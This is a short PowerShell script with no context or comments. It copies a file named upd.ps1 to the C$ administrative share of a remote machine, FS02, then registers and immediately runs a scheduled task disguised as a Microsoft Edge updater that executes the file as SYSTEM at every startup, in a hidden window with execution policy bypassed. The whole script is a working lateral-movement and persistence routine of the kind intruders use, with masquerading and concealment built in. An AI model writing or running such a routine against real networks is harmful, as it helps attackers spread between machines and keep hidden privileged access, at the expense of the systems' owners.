$remote = 'FS02'
$taskName = 'MicrosoftEdgeUpdateCore'
$action = 'powershell.exe -NoProfile -WindowStyle Hidden -ExecutionPolicy Bypass -File C:\Users\Public\upd.ps1'

Copy-Item -Path .\upd.ps1 -Destination "\\$remote\C$\Users\Public\upd.ps1"
schtasks.exe /create /s $remote /ru SYSTEM /sc onstart /tn $taskName /tr $action /f
schtasks.exe /run /s $remote /tn $taskName
